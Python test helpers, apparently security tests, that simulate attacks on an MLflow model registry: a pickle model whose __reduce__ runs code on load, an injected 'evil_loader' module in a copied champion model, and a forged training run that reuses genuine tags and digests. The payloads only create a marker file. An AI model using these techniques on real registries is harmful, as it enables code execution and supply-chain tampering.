"""What an attacker with write access to the registry can plant as the champion."""

import tempfile
import urllib.parse
import urllib.request
from collections.abc import Callable
from pathlib import Path

import torch


class CreatesFileWhenUnpickled(torch.nn.Module):
    """A 'model' whose unpickling runs code: it creates a file."""

    def __init__(self, marker: Path):
        super().__init__()
        self.marker = str(marker)

    def __reduce__(self):
        return (open, (self.marker, "w"))


def plant_pickle_champion(store: str, marker: Path, experiment: str = "fashion-mlp") -> None:
    """What an attacker with write access did: log a pickle-format model, register it and move
    the champion alias to it."""
    import mlflow

    mlflow.set_tracking_uri(store)
    with mlflow.start_run(experiment_id=mlflow.get_experiment_by_name(experiment).experiment_id):
        info = mlflow.pytorch.log_model(
            CreatesFileWhenUnpickled(marker),
            name="model",
            serialization_format="pickle",
            pip_requirements=["torch"],  # MLflow's inference would load (and so run) it
        )
    version = mlflow.register_model(info.model_uri, experiment)
    mlflow.MlflowClient().set_registered_model_alias(experiment, "champion", version.version)
    assert not marker.exists()


def plant_code_champion(store: str, marker: Path) -> None:
    """What a member with EDIT on the registered model can do: copy the genuine champion's
    files, add a loader module of their own, log that as a model with the hash of its own files,
    register it and move the alias. The pt2 data stays genuine; the code runs whenever MLflow's
    pyfunc loads the model."""
    import yaml

    def add_loader(folder: Path) -> None:
        (folder / "code").mkdir()
        (folder / "code/evil_loader.py").write_text(
            f"open({str(marker)!r}, 'w').close()\nfrom mlflow.pytorch import _load_pyfunc\n"
        )
        spec = yaml.safe_load((folder / "MLmodel").read_text())
        spec["flavors"]["python_function"] |= {"loader_module": "evil_loader", "code": "code"}
        (folder / "MLmodel").write_text(yaml.safe_dump(spec))

    plant_champion_copy(store, add_loader)


def plant_champion_copy(
    store: str, change: Callable[[Path], None] | None = None, experiment: str = "fashion-mlp"
) -> Path:
    """Log the genuine champion's files, after `change` (if any) alters them, as a LoggedModel
    of its own whose files-hash tag matches them (anyone who logs a model sets its tags), make it
    the champion, and return the folder where the artifact store keeps its files."""
    import mlflow

    from fashion_mlp.tracking.models import DOWNLOAD_NOTE, files_digest
    from fashion_mlp.tracking.tags import FILES_TAG

    client = mlflow.MlflowClient(store)
    genuine = client.get_model_version_by_alias(experiment, "champion")
    original = client.get_logged_model(genuine.source.removeprefix("models:/"))
    tags = {key: value for key, value in original.tags.items() if key.startswith("fashion_mlp.")}
    with tempfile.TemporaryDirectory() as scratch:
        folder = Path(
            mlflow.artifacts.download_artifacts(
                genuine.source, dst_path=scratch, tracking_uri=store
            )
        )
        (folder / DOWNLOAD_NOTE).unlink(missing_ok=True)
        if change is not None:
            change(folder)
        copy = client.create_logged_model(
            original.experiment_id,
            name=original.name,
            source_run_id=original.source_run_id,
            tags=tags | {FILES_TAG: files_digest(folder)},
        )
        client.log_model_artifacts(copy.model_id, str(folder))
    client.finalize_logged_model(copy.model_id, "READY")
    version = client.create_model_version(
        experiment, f"models:/{copy.model_id}", original.source_run_id, model_id=copy.model_id
    )
    client.set_registered_model_alias(experiment, "champion", version.version)
    location = client.get_logged_model(copy.model_id).artifact_location
    return Path(urllib.request.url2pathname(urllib.parse.urlparse(location).path))


def forge_run(
    store: str, victim: str, donor: str, author: str, experiment: str = "fashion-mlp"
) -> str:
    """What any account with EDIT on the experiment can do (issue 24): create a newer FINISHED
    run that copies every tag of the genuine training run of `victim`, its weights digest
    included, and give it a LoggedModel holding the files `donor`'s run logged, tagged with
    their hash as the project's own `files_digest` computes it. The run is `author`'s, as
    MLflow's client records a run's user. Returns the forged run's id."""
    import mlflow

    from fashion_mlp.tracking.models import DOWNLOAD_NOTE, files_digest
    from fashion_mlp.tracking.tags import FILES_TAG, MODEL_ID_TAG, MODEL_TAG, STAGE_TAG

    client = mlflow.MlflowClient(store)
    experiment_id = client.get_experiment_by_name(experiment).experiment_id

    def training_run(model: str):
        query = f"tags.`{MODEL_TAG}` = '{model}' and tags.`{STAGE_TAG}` = 'train'"
        return client.search_runs([experiment_id], query, order_by=["start_time DESC"])[0]

    genuine, donor_run = training_run(victim), training_run(donor)
    genuine_model = client.get_logged_model(genuine.data.tags[MODEL_ID_TAG])
    tags = {key: value for key, value in genuine.data.tags.items() if not key.startswith("mlflow.")}
    forged = client.create_run(
        experiment_id, run_name=victim, tags=tags | {"mlflow.user": author}
    ).info.run_id
    for key, value in genuine.data.params.items():
        client.log_param(forged, key, value)
    with tempfile.TemporaryDirectory() as scratch:
        folder = Path(
            mlflow.artifacts.download_artifacts(
                f"models:/{donor_run.data.tags[MODEL_ID_TAG]}", dst_path=scratch, tracking_uri=store
            )
        )
        (folder / DOWNLOAD_NOTE).unlink(missing_ok=True)
        logged = client.create_logged_model(
            experiment_id,
            name=victim,
            source_run_id=forged,
            tags=dict(genuine_model.tags) | {FILES_TAG: files_digest(folder)},
        )
        client.log_model_artifacts(logged.model_id, str(folder))
    client.finalize_logged_model(logged.model_id, "READY")
    client.set_tag(forged, MODEL_ID_TAG, logged.model_id)
    client.set_terminated(forged, "FINISHED")
    return forged
